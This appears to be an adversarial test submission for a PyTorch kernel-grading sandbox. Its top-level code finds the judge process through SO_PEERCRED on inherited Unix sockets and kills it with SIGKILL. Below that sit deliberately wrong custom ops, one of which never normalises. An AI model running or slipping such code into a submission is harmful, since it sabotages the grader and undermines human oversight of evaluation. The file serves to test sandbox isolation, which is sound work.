# expect: runtime_error|wrong_answer
# safety: pidns, uid
"""Attack: SIGKILL the process on the other end of the worker's channel.

SO_PEERCRED on the channel socket names the process that created the socketpair: the judge
itself (the web server, the CLI, the test runner). Only run where a pid namespace hides that pid
and the worker has dropped root; without them this kills the judge."""

import os
import signal
import socket
import stat
import struct

import torch
from torch import Tensor

_victims = set()
for _fd in range(3, 4096):
    try:
        if not stat.S_ISSOCK(os.fstat(_fd).st_mode):
            continue
        _s = socket.socket(fileno=os.dup(_fd))
        try:
            if _s.family == socket.AF_UNIX:
                _pid, _uid, _gid = struct.unpack("3i", _s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
                _victims.add(_pid)
        finally:
            _s.close()
    except OSError:
        pass
for _pid in sorted(_victims):
    if _pid > 1 and _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass

# ---------------------------------------------------------------- wrong ops (the honest part of this file)

@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    return x * weight  # wrong: never normalises (and no backward is registered)


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
